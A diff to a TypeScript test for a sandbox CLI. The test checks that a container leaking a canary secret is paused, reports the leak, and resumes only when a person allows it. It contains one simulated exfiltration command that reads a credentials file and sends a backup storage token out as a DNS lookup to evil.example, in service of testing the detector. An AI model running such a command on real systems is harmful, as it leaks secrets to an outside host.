@@ -2,6 +2,7 @@ import { execFileSync, spawnSync } from 'node:child_process';
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import { waitUntil } from '../conformance/support/in-bottle.ts';
 import { CliHome, resultOf } from './cli-process.ts';
 
 interface Outcome {
@@ -157,15 +158,17 @@ test('a kept bottle takes commands and files until it is removed', async () => {
   expect((await home.run(['rm', '--force', 'cli-kept'])).status).toBe(0);
 });
 
-test('a bottle that sends its canary is stopped, says so, and goes on when a person lets it', async () => {
+test('a bottle that sends its canary is paused, says so, and goes on when a person lets it', async () => {
   expect((await home.run(['run', repository, '--keep', '--quiet', '--name', 'cli-canary', '--', 'true'])).status).toBe(0);
   expect((await home.run(['status', 'cli-canary'])).stdout).not.toContain('canary to');
   const leak = '. /etc/backup/storage.env; getent hosts "$BACKUP_STORAGE_TOKEN.evil.example"; true';
-  expect((await home.run(['exec', 'cli-canary', '--', 'sh', '-c', leak])).status).toBe(0);
+  const leaking = home.run(['exec', 'cli-canary', '--', 'sh', '-c', leak]);
+  await waitUntil(async () => (await home.run(['status', 'cli-canary'])).stdout.includes('paused'), 30_000, 'the pause');
   const { stdout } = await home.run(['status', 'cli-canary']);
   expect(stdout).toContain('it sent its canary to');
   expect(stdout).toContain('terok egress resume cli-canary');
   expect((await home.run(['egress', 'resume', 'cli-canary'])).status).toBe(0);
+  expect((await leaking).status).toBe(0);
   expect((await home.run(['egress', 'resume', 'cli-canary'])).status).toBe(121);
   expect((await home.run(['status', 'cli-canary'])).stdout).not.toContain('canary to');
   expect((await home.run(['rm', '--force', 'cli-canary'])).status).toBe(0);
